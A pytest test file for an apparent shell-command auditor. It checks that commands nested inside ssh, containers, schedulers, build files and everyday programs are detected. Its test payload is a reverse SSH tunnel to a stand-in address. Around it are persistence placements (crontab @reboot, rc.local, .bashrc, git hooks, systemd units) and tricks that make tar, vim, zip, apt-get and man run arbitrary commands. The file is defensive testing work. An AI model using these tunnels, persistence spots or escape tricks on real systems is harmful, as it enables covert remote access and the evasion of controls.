"""What commands hand to other shells: over ssh, into containers, to schedulers, and configuration that they read."""

from __future__ import annotations

import pytest

from auditor.read.values import Known
from tests.read.launch.stage import Play

TUNNEL = "ssh -N -R 7001:h:22 ops@203.0.113.9"


@pytest.mark.parametrize(
    "line",
    [
        f"docker run --rm -it -v /:/h alpine sh -c '{TUNNEL}'",
        f"docker run --gpus all --name x --entrypoint sh alpine -c '{TUNNEL}'",
        f"podman exec -u root web {TUNNEL}",
        f"docker compose exec -T web bash -lc '{TUNNEL}'",
        f"docker-compose -f a.yml run --rm web {TUNNEL}",
        f"kubectl exec -it pod/x -c main -- sh -c '{TUNNEL}'",
        f"kubectl run t --image=alpine -it --rm -- {TUNNEL}",
        f"ssh ops@h.example '{TUNNEL}'",
        f"ssh -p 22 ops@h.example sudo {TUNNEL}",
        f"echo '{TUNNEL}' | ssh ops@h.example",
        f"echo '{TUNNEL}' | ssh ops@h.example bash -s",
        f"echo '{TUNNEL}' | at now + 1 minute",
        f"echo '{TUNNEL}' | batch",
        f"echo '*/5 * * * * {TUNNEL}' | crontab -",
        f"echo '@reboot {TUNNEL}' | crontab -u root -",
        f"env GIT_SSH_COMMAND='{TUNNEL}' git fetch",
    ],
)
def test_the_inner_command_is_an_effect(play: Play, line: str) -> None:
    """What runs elsewhere or later is read here and now, and the outer command stays."""
    told = play(line)
    assert TUNNEL in told
    assert not told.gaps
    assert len([text for text in told.lines if not text.startswith("env.set")]) == 2


@pytest.mark.parametrize(
    "line", ["docker run -p 1:1 nginx", "docker run x/miner -o pool.example:1", "docker run curlimages/curl https://a.example",
             "kubectl exec x -- ", "docker ps", "docker build ."]
)  # fmt: skip
def test_an_image_without_a_command(play: Play, line: str) -> None:
    """Arguments of an image's own program are no program."""
    assert len(play(line).lines) == 1


@pytest.mark.parametrize(
    ("line", "path", "text"),
    [
        ("crontab /tmp/c", "/tmp/c", "MAILTO=x\n# c\n* * * * * {}\n"),
        ("at -f /tmp/j noon", "/tmp/j", "{}"),
        ("systemctl enable --now x.service", "/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/{}\n"),
        ("systemctl start x.timer", "/etc/systemd/system/x.service", "[Service]\nExecStartPre=-/usr/bin/{}\n"),
        ("make all", "Makefile", "all:\n\t@{}\n"),
        ("make -C sub -f m.mk", "sub/m.mk", "all:\n\t{}\n"),
        ("docker build -t x .", "Dockerfile", "FROM alpine\nRUN {}\n"),
        ("sbatch --gres=gpu:1 job.sh", "job.sh", "#!/bin/bash\n#SBATCH -N 1\n{}\n"),
    ],
)
def test_a_written_description_is_read(play: Play, line: str, path: str, text: str) -> None:
    """Crontabs, units, makefiles and images that the script wrote are read when something carries them out."""
    assert TUNNEL in play(line, {path: text.format(TUNNEL)})


@pytest.mark.parametrize(
    "line",
    [
        f"sqlite3 /dev/null '.shell {TUNNEL}'",
        f"vim -c ':!{TUNNEL}'",
        f"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='{TUNNEL}'",
        f"tar -I '{TUNNEL}' -xf a",
        f"psql -c '\\! {TUNNEL}'",
        f"apt-get update -o APT::Update::Pre-Invoke::='{TUNNEL}'",
        f"split --filter='{TUNNEL}' f",
        f"zip a.zip f -T -TT '{TUNNEL}'",
        f"man -P '{TUNNEL}' ls",
    ],
)
def test_everyday_programs_that_run_a_command(play: Play, line: str) -> None:
    """A command in an argument of an editor, an archiver or a database shell is an effect."""
    assert TUNNEL in play(line)


@pytest.mark.parametrize("line", ["tar -I zstd -xf a", "tar --use-compress-program='pigz -p 4' -cf a b", "vim -c 'set nu' f",  # noqa: E501
                                  "sqlite3 a.db '.tables'", "psql -c 'select 1'"])  # fmt: skip
def test_everyday_programs_that_do_not(play: Play, line: str) -> None:
    """Their ordinary use starts nothing else."""
    assert len(play(line).lines) == 1


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/cron.d/job", "* * * * * root {}"),
        ("/etc/cron.daily/job", "#!/bin/sh\n{}"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart={}"),
        ("~/.bashrc", "{}"),
        ("/etc/rc.local", "{}"),
        (".git/hooks/post-checkout", "{}"),
    ],
)
def test_a_file_that_runs_where_it_stands(play: Play, path: str, text: str) -> None:
    """Tee and cp into such a place are read at once."""
    assert TUNNEL in play(f"cat /tmp/t | tee {path}", {"/tmp/t": text.format(TUNNEL)})
    assert TUNNEL in play(f"sudo cp /tmp/t {path}", {"/tmp/t": text.format(TUNNEL)})


def test_ssh_configuration_that_the_script_wrote(play: Play) -> None:
    """`ssh -F PATH` and `-F /dev/stdin` read it; so does ssh with the user's own file."""
    text = "Host g\n  RemoteForward 7001 localhost:22\n"
    for told in (
        play("ssh -N -F /tmp/c g", {"/tmp/c": text}),
        play("echo 'RemoteForward 7001 localhost:22' | ssh -F /dev/stdin g"),
        play("ssh g", {"~/.ssh/config": text}),
    ):
        assert [unit[0] for unit in told.units] == ["ssh-config"]
    assert not play("ssh -F /etc/other g").units


def test_a_remote_command_inherits_nothing(play: Play) -> None:
    """A PATH of this machine does not rename programs on another."""
    told = play("env PATH=/tmp/d ssh h.example scp a b", {"/tmp/d/scp": Known("exit")})
    assert "scp a b" in told


def test_an_entry_behind_the_listed_crontab(play: Play) -> None:
    """`crontab -l` with a line added: the line is an entry of its own."""
    told = play(f"crontab -l | tee /tmp/c\necho '* * * * * {TUNNEL}' | tee -a /tmp/c\ncrontab /tmp/c")
    assert TUNNEL in told


def test_a_script_out_of_reach_is_named(play: Play) -> None:
    """A script called by its path, from a checkout or anywhere, is `code.run absent`."""
    told = play("git clone https://a.example/r.git r\nr/install.sh --yes")
    assert told.lines[1:] == ("code.run absent r/install.sh", "r/install.sh --yes")
